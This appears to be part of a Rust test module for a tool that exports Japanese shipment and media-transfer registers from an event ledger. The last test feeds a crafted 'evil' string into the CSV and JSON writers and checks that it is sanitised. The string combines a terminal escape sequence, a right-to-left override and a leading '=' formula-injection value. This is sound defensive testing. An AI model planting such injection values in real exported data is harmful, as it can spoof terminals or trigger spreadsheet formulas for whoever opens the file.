    fn event(id: i64, kind: EventKind, shipment: &str, at: &str, body: Value) -> Event {
        Event {
            id,
            recorded_at: at.into(),
            kind,
            unknown_kind: None,
            shipment: shipment.into(),
            body,
            prev_hash: String::new(),
            hash: String::new(),
        }
    }

    #[test]
    fn a_body_of_the_wrong_shape_is_said_not_folded() {
        // A row written outside isou: its kind says sealed, its body is no seal.
        let events = [event(
            1,
            EventKind::Sealed,
            "ISOU-1",
            "2026-12-03T00:00:00Z",
            serde_json::json!({"summary": 5}),
        )];
        let rows = transport_register(&events);
        assert_eq!(rows[0]["区分"], "");
        assert_eq!(
            rows[0]["備考"],
            "読めない記録: 記録1 (sealed) は記録簿に反映していない"
        );
        assert!(media_register(&events).is_empty());
    }

    #[test]
    fn a_set_received_a_part_at_a_time_lists_its_volumes_in_order() {
        let check = |id, kind, missing: Vec<usize>, complete| {
            let v = super::super::event::Verification {
                valid: complete,
                authenticated: complete,
                medium_type: Some("CD-R ×3".into()),
                volumes: vec!["x".into(); 3 - missing.len()],
                set_complete: complete,
                missing,
                signer_pinned: true,
                class: "identifiable".into(),
                class_stated: true,
                by: "佐藤".into(),
                ..Default::default()
            };
            let body = match kind {
                EventKind::Received => EventBody::Received(v),
                _ => EventBody::CheckedIncomplete(v),
            };
            event(
                id,
                kind,
                "ISOU-20261203-ABCDEFGH",
                "2026-12-03T00:00:00Z",
                body.to_value(),
            )
        };
        let events = [
            check(1, EventKind::CheckedIncomplete, vec![1, 2], false),
            check(2, EventKind::Received, vec![], true),
        ];
        let ids: Vec<String> = media_register(&events)
            .into_iter()
            .map(|r| r["媒体ID"].clone())
            .collect();
        assert_eq!(
            ids,
            [
                "ISOU-20261203-ABCDEFGH-1/3",
                "ISOU-20261203-ABCDEFGH-2/3",
                "ISOU-20261203-ABCDEFGH-3/3"
            ]
        );
        let t = transport_register(&events);
        assert_eq!(t[0]["受領時の検証結果"], "正常");
        assert_eq!(t[0]["受領時刻"], "09:00");
        let c = check_register(&events);
        let results: Vec<&str> = c.iter().map(|r| r["結果"].as_str()).collect();
        assert_eq!(results, ["未了", "正常"]);
    }

    #[test]
    fn every_column_has_a_type_and_time_columns_name_the_zone() {
        assert_eq!(column_type("受領日"), ColumnType::Date);
        assert_eq!(column_type("受領時刻"), ColumnType::Time);
        assert_eq!(column_type("媒体数"), ColumnType::Count);
        assert_eq!(column_type("備考"), ColumnType::Text);
        assert_eq!(titled("受領時刻"), "受領時刻(JST)");
        assert_eq!(titled("受領日"), "受領日");
        for r in REGISTERS {
            assert_eq!(register(r.name).map(|x| x.title), Some(r.title));
            for c in r.columns {
                assert!(!c.contains("日時"), "{c}: a date and a time in one cell");
            }
        }
    }

    #[test]
    fn cells_and_json_from_the_ledger_are_cleaned() {
        let evil = "\u{1b}]0;t\u{7}\u{202e}=1";
        let mut row = BTreeMap::new();
        row.insert("移送ID", "ISOU-1".to_string());
        row.insert("移送元", evil.to_string());
        row.insert("移送先", format!("={evil}"));
        let mut out = Vec::new();
        write_csv(&mut out, &["移送ID", "移送元", "移送先"], &[row.clone()]).unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "\u{feff}移送ID,移送元,移送先\r\nISOU-1,\u{fffd}]0;t\u{fffd}\u{fffd}=1,'=\u{fffd}]0;t\u{fffd}\u{fffd}=1\r\n"
        );
        let mut out = Vec::new();
        write_json(&mut out, &[row]).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(
            !text.contains(['\u{202e}']) && !text.contains("\\u001b"),
            "{text}"
        );
        assert!(text.contains("\u{fffd}]0;t"), "{text}");
    }
}
